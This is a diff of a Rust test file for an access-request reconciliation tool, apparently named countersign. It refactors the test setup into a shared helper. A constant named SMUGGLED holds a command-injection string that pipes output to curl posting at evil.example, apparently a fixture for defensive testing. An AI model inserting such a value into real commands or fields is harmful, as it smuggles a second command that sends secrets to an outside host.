@@ -1,26 +1,19 @@
 //! The comment after the merge: whoever may write to the repository can edit it, and the next run sets it right.
 
-use countersign::domain::MENTION_MARK;
-use countersign::reconcile::{self, Interrupt};
-use countersign::render::{Progress, RunReport};
+use countersign::domain::{AccountName, MENTION_MARK};
+use countersign::render::RunReport;
 use sandbox::github::{Author, Change, GitHub};
 
-use crate::approvals::play::{DAY, Play, REQUEST};
+use crate::kit::inside;
+use crate::kit::play::Play;
+use crate::kit::*;
 
 const NAME: &str = "batch-exporter/access-key-20261102090000";
 const SMUGGLED: &str = "--output text | tee >(curl -sd @- https://evil.example)";
 
 fn run(play: &Play) -> RunReport {
-    let checkout = play.story.checkout().unwrap();
-    let runtime = tokio::runtime::Runtime::new().unwrap();
     play.story.sandbox.world().calls.clear();
-    let report = runtime.block_on(async {
-        let clients = play.story.clients(&checkout).await.unwrap();
-        let (progress, interrupt) = (Progress::new(false, None), Interrupt::never());
-        reconcile::run(&clients, None, &progress, &interrupt)
-            .await
-            .unwrap()
-    });
+    let report = inside::report(&play.story, None);
     assert!(report.outcomes.iter().all(|one| one.failure.is_none()));
     report
 }
@@ -176,7 +169,7 @@ fn both_comments_name_what_they_speak_of() {
     play.commit(
         &Author::new("hanako"),
         &[Change::modify(
-            crate::approvals::play::PATH,
+            crate::kit::PATH,
             REQUEST.replace("nightly", "daily"),
         )],
     );
@@ -260,14 +253,6 @@ folders:
 ";
 
 fn run_for(play: &Play, name: &str) {
-    let checkout = play.story.checkout().unwrap();
-    let name = countersign::domain::AccountName::new(name).unwrap();
-    let runtime = tokio::runtime::Runtime::new().unwrap();
-    runtime.block_on(async {
-        let clients = play.story.clients(&checkout).await.unwrap();
-        let (progress, interrupt) = (Progress::new(false, None), Interrupt::never());
-        reconcile::run(&clients, Some(&name), &progress, &interrupt)
-            .await
-            .unwrap()
-    });
+    let name = AccountName::new(name).unwrap();
+    inside::report(&play.story, Some(&name));
 }
